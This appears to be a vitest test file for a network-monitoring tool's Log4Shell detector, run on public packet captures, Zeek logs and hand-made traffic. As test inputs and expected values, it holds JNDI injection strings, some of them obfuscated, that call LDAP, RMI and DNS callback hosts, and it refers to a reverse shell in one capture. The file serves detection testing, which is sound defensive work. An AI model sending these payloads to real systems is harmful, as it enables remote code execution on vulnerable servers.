// The Log4Shell detector on real captures and logs (ground truth: shared/data SOURCES.md §2.1,
// §2.2 and the Zeek section, completed where noted by what tshark shows in the captures) and
// on small hand-made cases for the precision rules, on every backend.

import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { importCaptureFiles } from '../../cli/commands/import-capture.js';
import { importFiles } from '../../cli/commands/import.js';
import { openCaptureFile } from '../../collect/capture-file.js';
import type { FlowRecord } from '../../core/columns.js';
import { parseIp } from '../../core/ip.js';
import type { HttpRequest } from '../../decode/http/http-request.js';
import type { StoredIndicator } from '../../intel/indicator.js';
import { IntelIndex } from '../../intel/intel-index.js';
import { appendHttpRequests } from '../../store/http-request-table.js';
import type { Store } from '../../store/store.js';
import { sharedDataPath } from '../../test-support/shared-data.js';
import { testBackends } from '../../test-support/test-backends.js';
import type { NewFinding } from '../detector.js';
import { log4jConfig, log4jDetector, type Log4jConfig } from './log4j-detector.js';

const FOX_DIR = sharedDataPath('pcap-malicious/fox-it-log4shell');
const FOX_FILES = FOX_DIR ? readdirSync(FOX_DIR).filter((f) => f.endsWith('.pcap')).sort() : [];
const NDPI_DIR = sharedDataPath('pcap-malicious/ndpi');
const SLIPS_HTTP = sharedDataPath('zeek-logs/slips-test9-mixed/http.log');
const SLIPS_CONN = sharedDataPath('zeek-logs/slips-test9-mixed/conn.log');
const RITA_HTTP = sharedDataPath('zeek-logs/rita-proxy-tsv/http.log');
const quiet = { stderr: { write: () => true } };
const FAR_FUTURE = Date.UTC(2100, 0, 1);

async function detect(store: Store, from: number, to: number, config: Partial<Log4jConfig> = {}) {
  const context = { store, from, to, intel: new IntelIndex<StoredIndicator>([]), sampleSize: 5 };
  return log4jDetector.run(context, log4jConfig.parse(config));
}

type Details = {
  callbackMatch: string;
  lookups: { lookup: string; protocol: string; host: string; port: number; field: string; obfuscated: boolean }[];
  callbacks: { dst: string; dport: number; proto: string; packets: number }[];
  payload: { dst: string; dport: number; uri?: string }[];
  followups: { dst: string; dport: number; proto: string; packets: number }[];
  usualCallbackFlows?: number;
};
const details = (f: NewFinding) => f.evidence.details as unknown as Details;

/** First and last frame time of a capture, read from the file itself. */
function captureSpan(file: string): { first: number; last: number } {
  const source = openCaptureFile(file);
  let first = Infinity;
  let last = -Infinity;
  for (const f of source.frames()) {
    first = Math.min(first, f.timestamp);
    last = Math.max(last, f.timestamp);
  }
  source.close();
  return { first, last };
}

/**
 * What a Fox-IT file name says (SOURCES.md §2.1): `ldap`/`rmi` picks the victim port and the
 * callback; the vector names the field that carries the lookup. Which LDAP victim (.2 or .3)
 * and the class-fetch port are what tshark shows: the basic-auth captures (recorded on another
 * day) have victim 172.17.0.3 fetching from :80, the others 172.17.0.2 fetching from :8080.
 */
function expectedOf(file: string) {
  const ldap = file.startsWith('ldap-');
  const basic = file.includes('-basic-auth-');
  const vector = /^(?:ldap|rmi)-(.+)-ev\d\.pcap$/.exec(file)![1]!;
  const field = { 'basic-auth': 'authorization (basic)', 'http-method': 'method', 'uri-params': 'uri', 'user-agent': 'user-agent', 'x-api-version': 'x-api-version' }[vector];
  return {
    protocol: ldap ? 'ldap' : 'rmi',
    victim: ldap ? (basic ? '172.17.0.3' : '172.17.0.2') : '172.17.0.4',
    webPort: ldap ? 8000 : 8888,
    callbackPort: ldap ? 1389 : 1099,
    classPort: ldap ? (basic ? 80 : 8080) : undefined,
    field,
  };
}

describe.each(testBackends())('log4j detector on %s', (_name, make) => {
  describe.skipIf(FOX_FILES.length !== 40)('the 40 Fox-IT captures in one store', () => {
    let dir: string;
    let store: Store;
    const spans = new Map<string, { first: number; last: number }>();
    const found = new Map<string, NewFinding[]>();
    beforeAll(async () => {
      dir = mkdtempSync(join(tmpdir(), 'vantage-log4j-fox-'));
      store = make(dir);
      await store.open();
      await importCaptureFiles(store, FOX_FILES.map((f) => join(FOX_DIR!, f)), { format: 'pcap' }, quiet);
      for (const f of FOX_FILES) spans.set(f, captureSpan(join(FOX_DIR!, f)));
    });
    afterAll(async () => {
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    });

    test.each(FOX_FILES)('%s: one exploitation finding with the ground-truth entities', async (file) => {
      const e = expectedOf(file);
      const span = spans.get(file)!;
      // The window is this capture's span; the captures follow one another minutes apart, so
      // the callback delay reaches into later captures and the baseline into earlier ones (a
      // repeated attack, which must not hide this one).
      const { findings } = await detect(store, span.first, span.last + 1, { listed: 50 });
      found.set(file, findings);
      expect(findings).toHaveLength(1);
      const f = findings[0]!;
      expect({ kind: f.kind, subkind: f.subkind, src: f.src, dst: f.dst, dport: f.dport, proto: f.proto }).toEqual({
        kind: 'log4j',
        subkind: 'exploitation',
        src: '172.17.0.1',
        dst: e.victim,
        dport: e.webPort,
        proto: 6,
      });
      expect(f.entities).toEqual([
        { role: 'attacker', type: 'ip', value: '172.17.0.1' },
        { role: 'victim', type: 'ip', value: e.victim },
        { role: 'callback', type: 'ip', value: '34.91.73.37' },
      ]);
      const d = details(f);
      expect(d.callbackMatch).toBe('address');
      // Every evasion variant, ev0 included, uses lookup syntax (tshark shows `${${::-j}...` for ev0).
      expect(d.lookups.map((l) => [l.protocol, l.host, l.port, l.field, l.obfuscated])).toEqual([[e.protocol, '34.91.73.37', e.callbackPort, e.field, true]]);
      expect(d.callbacks.length).toBeGreaterThan(0);
      expect(new Set(d.callbacks.map((c) => `${c.dst}:${c.dport}/${c.proto}`))).toEqual(new Set([`34.91.73.37:${e.callbackPort}/tcp`]));
      if (e.classPort !== undefined) {
        expect(d.payload.some((p) => p.dst === '34.91.73.37' && p.dport === e.classPort && /^\/Exploit\w+\.class$/.test(p.uri ?? ''))).toBe(true);
      } else {
        expect(d.payload).toEqual([]);
      }
      // The payload runs `ping -c 10 1.1.1.1`.
      expect(d.followups.some((x) => x.dst === '1.1.1.1' && x.proto === 'icmp')).toBe(true);
      // ldap: callback, class fetch and ping = the whole chain; rmi: no class fetch (0.75 + 0.15 + 0.05).
      expect([f.score, f.severity]).toEqual(e.classPort !== undefined ? [1, 'critical'] : [0.95, 'high']);
    });

    test('a repeated attack on the same victim and callback keeps one finding id', () => {
      const id = (file: string) => found.get(file)?.[0]?.id;
      expect(id('ldap-user-agent-ev0.pcap')).toBeDefined();
      expect(id('ldap-uri-params-ev3.pcap')).toBe(id('ldap-user-agent-ev0.pcap'));
      expect(id('rmi-x-api-version-ev4.pcap')).toBe(id('rmi-user-agent-ev0.pcap'));
      expect(id('ldap-basic-auth-ev2.pcap')).not.toBe(id('ldap-user-agent-ev0.pcap'));
      expect(id('rmi-user-agent-ev0.pcap')).not.toBe(id('ldap-user-agent-ev0.pcap'));
    });
  });

  describe('single captures and logs, each in a fresh store', () => {
    let dir: string;
    let n = 0;
    /** Runs a test on a new store, closed at its end (embedded ClickHouse opens one at a time). */
    const fresh = (body: (store: Store) => Promise<void>) => async () => {
      const store = make(join(dir, String(n++)));
      await store.open();
      try {
        await body(store);
      } finally {
        await store.close();
      }
    };
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'vantage-log4j-'));
    });
    afterAll(() => {
      rmSync(dir, { recursive: true, force: true });
    });

    test.skipIf(!FOX_DIR)('rmi-user-agent-ev0 alone: exact evidence', fresh(async (store) => {
      await importCaptureFiles(store, [join(FOX_DIR!, 'rmi-user-agent-ev0.pcap')], { format: 'pcap' }, quiet);
      const { findings, stats } = await detect(store, 0, FAR_FUTURE);
      expect(stats).toMatchObject({ requests: 1, lookups: 1, attempts: 1, exploitations: 1, findings: 1 });
      const f = findings[0]!;
      // tshark conv,tcp: two conversations 172.17.0.4 -> 34.91.73.37:1099 (one without its SYN);
      // ICMP: 10 echo requests 172.17.0.4 -> 1.1.1.1, one flow.
      expect(f.evidence.counts).toEqual({ requests: 1, callbacks: 2, payloadFetches: 0, followups: 1 });
      expect(details(f).followups.map((x) => [x.dst, x.dport, x.proto, x.packets])).toEqual([['1.1.1.1', 2048, 'icmp', 10]]);
      expect(details(f).lookups[0]!.lookup).toBe('jndi:rmi://34.91.73.37:1099/gp9pc7');
      expect(f.evidence.query).toBe('(src ip 172.17.0.1 and dst ip 172.17.0.4 and dst port 8888) or (src ip 172.17.0.4 and dst ip 34.91.73.37)');
      // The sample is what that query returns: the attack flow and the callbacks.
      expect(f.evidence.sample.map((s) => `${s.src}>${s.dst}:${s.dport}`)).toEqual(['172.17.0.1>172.17.0.4:8888', '172.17.0.4>34.91.73.37:1099', '172.17.0.4>34.91.73.37:1099']);
      expect(f.summary).toBe(
        'Log4Shell exploitation: 172.17.0.1 sent a JNDI lookup (rmi://34.91.73.37:1099) to 172.17.0.4:8888 in the user-agent; the victim called back to 34.91.73.37:1099, then contacted 1 new destination',
      );
      // Run again: the same finding id.
      expect((await detect(store, 0, FAR_FUTURE)).findings[0]!.id).toBe(f.id);
    }));

    test.skipIf(!NDPI_DIR)('nDPI log4j-webapp-exploit: lookup in the form body, LDAP callback, class fetch, reverse shell', fresh(async (store) => {
      await importCaptureFiles(store, [join(NDPI_DIR!, 'log4j-webapp-exploit.pcap')], { format: 'pcap' }, quiet);
      const { findings } = await detect(store, 0, FAR_FUTURE);
      expect(findings).toHaveLength(1);
      const f = findings[0]!;
      expect({ subkind: f.subkind, src: f.src, dst: f.dst, dport: f.dport, score: f.score, severity: f.severity }).toEqual({
        subkind: 'exploitation',
        src: '172.16.238.1',
        dst: '172.16.238.10',
        dport: 8080,
        score: 1,
        severity: 'critical',
      });
      expect(f.entities).toEqual([
        { role: 'attacker', type: 'ip', value: '172.16.238.1' },
        { role: 'victim', type: 'ip', value: '172.16.238.10' },
        { role: 'callback', type: 'ip', value: '172.16.238.11' },
      ]);
      const d = details(f);
      // The User-Agent `jndi:ldap://...` has no `${` (Log4j does not evaluate it); the form field does.
      expect(d.lookups.map((l) => [l.lookup, l.field])).toEqual([['jndi:ldap://172.16.238.11:1389/a', 'body']]);
      // tshark: two LDAP conversations to 172.16.238.11:1389, two GET /Exploit.class to :80,
      // two conversations to 10.10.10.31:9001 (the reverse shell).
      expect(d.callbacks.map((c) => `${c.dst}:${c.dport}`)).toEqual(['172.16.238.11:1389', '172.16.238.11:1389']);
      expect(d.payload.map((p) => `${p.dst}:${p.dport}${p.uri}`)).toEqual(['172.16.238.11:80/Exploit.class', '172.16.238.11:80/Exploit.class']);
      expect(d.followups.map((x) => `${x.dst}:${x.dport}/${x.proto}`)).toEqual(['10.10.10.31:9001/tcp', '10.10.10.31:9001/tcp']);
    }));

    test.skipIf(!NDPI_DIR)('the other nDPI captures (Emotet, TrickBot, malware, SYN scan): no finding', fresh(async (store) => {
      const files = ['emotet.pcap', 'malware.pcap', 'synscan.pcap', 'trickbot.pcap'].map((f) => join(NDPI_DIR!, f));
      const summary = await importCaptureFiles(store, files, { format: 'pcap' }, quiet);
      expect(summary.files.reduce((k, s) => k + (s.httpRequests ?? 0), 0)).toBeGreaterThan(0);
      const { findings } = await detect(store, 0, FAR_FUTURE);
      expect(findings).toEqual([]);
    }));

    test.skipIf(!RITA_HTTP)('rita proxy http.log (407 requests): no finding', fresh(async (store) => {
      await importFiles(store, [RITA_HTTP!], { format: 'auto', strict: true } as never, quiet);
      const { findings, stats } = await detect(store, 0, FAR_FUTURE);
      expect(findings).toEqual([]);
      expect(stats.lookups).toBe(0);
    }));

    test.skipIf(!SLIPS_HTTP || !SLIPS_CONN)('slips test9 http.log with its conn.log: the one jndi request is an attempt', fresh(async (store) => {
      await importFiles(store, [SLIPS_HTTP!, SLIPS_CONN!], { format: 'auto', strict: true } as never, quiet);
      const { findings } = await detect(store, 0, FAR_FUTURE);
      expect(findings).toHaveLength(1);
      const f = findings[0]!;
      expect({ kind: f.kind, subkind: f.subkind, src: f.src, dst: f.dst, dport: f.dport, score: f.score, severity: f.severity, first: f.first }).toEqual({
        kind: 'log4j',
        subkind: 'attempt',
        src: '10.0.2.15',
        dst: '195.113.232.72',
        dport: 80,
        score: 0.5,
        severity: 'low',
        // ts 80.734979 (the capture's times start near the epoch)
        first: '1970-01-01T00:01:20.734Z',
      });
      expect(f.entities).toEqual([
        { role: 'attacker', type: 'ip', value: '10.0.2.15' },
        { role: 'victim', type: 'ip', value: '195.113.232.72' },
        { role: 'callback', type: 'domain', value: 'xyz.xyz.com' },
      ]);
      expect(details(f).lookups.map((l) => [l.protocol, l.host, l.port, l.field, l.obfuscated])).toEqual([['ldap', 'xyz.xyz.com', 39356, 'user-agent', false]]);
      expect(f.evidence.query).toBe('src ip 10.0.2.15 and dst ip 195.113.232.72 and dst port 80');
      expect((await detect(store, 0, FAR_FUTURE, { attempts: false })).findings).toEqual([]);
    }));
  });

  describe('precision rules on hand-made traffic', () => {
    let dir: string;
    let store: Store;
    const T = Date.UTC(2024, 0, 1, 12);
    const ip = (text: string) => parseIp(text)!;
    const flow = (src: string, dst: string, dport: number, start: number, proto = 6): FlowRecord => ({
      start,
      end: start + 50,
      src: ip(src),
      dst: ip(dst),
      sport: 40000 + (start % 1000),
      dport,
      proto,
      tcp_flags: 27,
      packets: 5,
      bytes: 500,
    });
    const request = (src: string, dst: string, ts: number, userAgent: string): HttpRequest => ({
      ts,
      src: ip(src),
      dst: ip(dst),
      sport: 50000,
      dport: 443,
      method: 'GET',
      host: 'shop.example',
      uri: '/',
      user_agent: userAgent,
      headers: '',
      body: '',
      source: 'zeek-http',
    });
    beforeAll(async () => {
      dir = mkdtempSync(join(tmpdir(), 'vantage-log4j-rules-'));
      store = make(dir);
      await store.open();
      await appendHttpRequests(store, [
        // A: the lookup names the directory server the victim queries all day.
        request('198.51.100.1', '10.1.0.1', T, '${jndi:ldap://10.1.0.9:389/a}'),
        // B: a named callback host on an uncommon explicit port, reached 3 s later.
        request('198.51.100.2', '10.1.0.2', T, '${${lower:j}ndi:ldap://cb.example:1389/x}'),
        // C: a named host on port 53: DNS traffic proves nothing.
        request('198.51.100.3', '10.1.0.3', T, '${jndi:dns://cb.example:53/x}'),
        // D: an address callback 10 minutes later, beyond the 5-minute delay.
        request('198.51.100.4', '10.1.0.4', T, '${jndi:rmi://203.0.113.7:1099/x}'),
      ]);
      await store.appendFlows([
        flow('10.1.0.1', '10.1.0.9', 389, T - 1_800_000),
        flow('10.1.0.1', '10.1.0.9', 389, T + 1_000),
        flow('10.1.0.2', '203.0.113.9', 1389, T + 3_000),
        flow('10.1.0.3', '10.1.0.53', 53, T + 1_000, 17),
        flow('10.1.0.4', '203.0.113.7', 1099, T + 600_000),
      ]);
    });
    afterAll(async () => {
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    });

    test('usual destinations, port-only matches, common ports and late callbacks', async () => {
      const { findings } = await detect(store, T - 60_000, T + 60_000);
      const by = new Map(findings.map((f) => [f.dst, f]));
      expect(findings).toHaveLength(4);
      // A: the callback-like flow goes where the victim went 30 minutes before: usual, an attempt.
      expect([by.get('10.1.0.1')!.subkind, details(by.get('10.1.0.1')!).usualCallbackFlows]).toEqual(['attempt', 1]);
      // B: port-only callback: 0.75 + 0.15 * 0.6 = 0.84, medium; the server reached is listed.
      const b = by.get('10.1.0.2')!;
      expect([b.subkind, b.score, b.severity, details(b).callbackMatch]).toEqual(['exploitation', 0.84, 'medium', 'port']);
      expect(b.entities).toEqual([
        { role: 'attacker', type: 'ip', value: '198.51.100.2' },
        { role: 'victim', type: 'ip', value: '10.1.0.2' },
        { role: 'callback', type: 'domain', value: 'cb.example' },
        { role: 'callback', type: 'ip', value: '203.0.113.9' },
      ]);
      expect(by.get('10.1.0.3')!.subkind).toBe('attempt');
      expect(by.get('10.1.0.4')!.subkind).toBe('attempt');
      // With a 15-minute delay D's callback counts.
      const longer = await detect(store, T - 60_000, T + 60_000, { callbackDelaySeconds: 900 });
      expect(longer.findings.find((f) => f.dst === '10.1.0.4')!.subkind).toBe('exploitation');
    });
  });
});
